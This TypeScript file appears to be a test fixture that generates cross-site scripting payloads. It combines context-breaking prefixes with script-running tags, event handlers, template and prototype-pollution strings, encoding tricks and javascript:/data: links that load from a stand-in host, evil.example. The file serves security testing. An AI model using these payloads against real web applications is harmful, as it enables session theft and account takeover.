/*
 * Texts that call `ran(…)` or reach evil.example if a page ever interprets them. Every exit from a context is combined with every
 * script.
 */

/** Exits from text, attribute, title, text area, script, comment, style sheet, CDATA, script string, and JSON in a script. */
const exits = ['', '">', "'>", '</title>', '</textarea>', '</script>', '--></style>', ']]>', '"}]}</script>', '\u2028*/</script>'];

const runs = [
  '<script>ran(1)</script>',
  '<sCrIpT\t>ran(1)//</ScRiPt\n>',
  '<img src=x onerror=ran(1)>',
  '<svg/onload=ran(1)>',
  '<svg><script>ran(1)</script></svg>',
  '<svg><a xlink:href="javascript:ran(1)"><text y=20>x</text></a><animate onbegin=ran(1) attributeName=x dur=1s>',
  '<iframe srcdoc="<script>parent.ran(1)</script>"></iframe>',
  '<iframe src="javascript:parent.ran(1)"></iframe>',
  '<details open ontoggle=ran(1)>',
  '<input autofocus onfocus=ran(1)>',
  '<object data="data:text/html,<script>parent.ran(1)</script>"></object>',
  '<embed src="javascript:ran(1)">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<base href="https://evil.example/">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  "<style>@import 'https://evil.example/x.css';*{background:url(https://evil.example/y)}</style>",
  '<p style="background:url(https://evil.example/z)">',
  '<video><source onerror=ran(1)></video>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=ran(1)&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=ran(1)>">',
  '<form action="javascript:ran(1)"><button autofocus>x</button></form>',
  '<template><script>ran(1)</script></template><script type=module>ran(1)</script>',
];

/** Payloads that need no markup: for script strings, templates, attributes, styles, and text that is decoded twice. */
const others = [
  "';ran(1);//",
  '";ran(1);//',
  "\\';ran(1);//",
  '\\";ran(1);//',
  '`$' + '{ran(1)}`',
  '$' + '{ran(1)}',
  '\u2028ran(1);//',
  '\u2029ran(1);//',
  '*/ran(1);/*',
  '<!--<script>ran(1)//-->',
  '{"__proto__":{"innerHTML":"<img src=x onerror=ran(1)>"}}',
  '{"$$typeof":"react.element","type":"script","props":{"dangerouslySetInnerHTML":{"__html":"ran(1)"}}}',
  '"},{"@type":"Person","name":"</script><script>ran(1)</script>',
  '"]);ran(1);window.x=(["',
  '\\u003cscript\\u003eran(1)\\u003c/script\\u003e',
  '\\x3cimg src=x onerror=ran(1)\\x3e',
  '&lt;script&gt;ran(1)&lt;/script&gt;',
  '&#x3c;img src=x onerror=ran(1)&#x3e;',
  '%3Cimg%20src%3Dx%20onerror%3Dran(1)%3E',
  '＜script＞ran(1)＜/script＞',
  '+ADw-script+AD4-ran(1)+ADw-/script+AD4-',
  '{{constructor.constructor("ran(1)")()}}',
  '#{ran(1)}<%= ran(1) %>[[$' + '{ran(1)}]]',
  '" onmouseover="ran(1)" autofocus onfocus="ran(1)" x="',
  "' onmouseover='ran(1)' autofocus onfocus='ran(1)' x='",
  'x onfocus=ran(1) autofocus tabindex=1',
  'red;background:url(https://evil.example/c);x:expression(ran(1))',
  'javascript:ran(1)',
  '![x](javascript:ran(1))[x](data:text/html,<script>ran(1)</script>)',
  '\u202e<script>ran(1)</script>\u202c',
];

/** Links that validation refuses; they are inserted directly into the database. */
export const links = [
  'javascript:ran(1)',
  'JaVaScRiPt:ran(1)',
  ' javascript:ran(1)',
  '\u0001javascript:ran(1)',
  'java\tscript:ran(1)',
  'java\nscript:ran(1)',
  'javascript&colon;ran(1)',
  'javascript://example.org/%0aran(1)',
  'data:text/html,<script>ran(1)</script>',
  'data:text/html;base64,PHNjcmlwdD5yYW4oMSk8L3NjcmlwdD4=',
  'vbscript:ran(1)',
  'blob:https://evil.example/x',
  'filesystem:https://evil.example/x',
  'https://example.org/"onmouseover="ran(1)" x="',
  "https://example.org/'><img src=x onerror=ran(1)>",
  'view-source:javascript:ran(1)',
];

/** All payloads, or a sample of every kind. */
export function payloadList(all: boolean): string[] {
  const combined = exits.flatMap((exit) => runs.map((run) => exit + run));
  const everything = [...combined, ...others];
  return all
    ? everything
    : [...exits.slice(0, 6).map((exit, index) => exit + runs[(index * 4) % runs.length]), ...others.filter((_, index) => index % 10 === 3)];
}
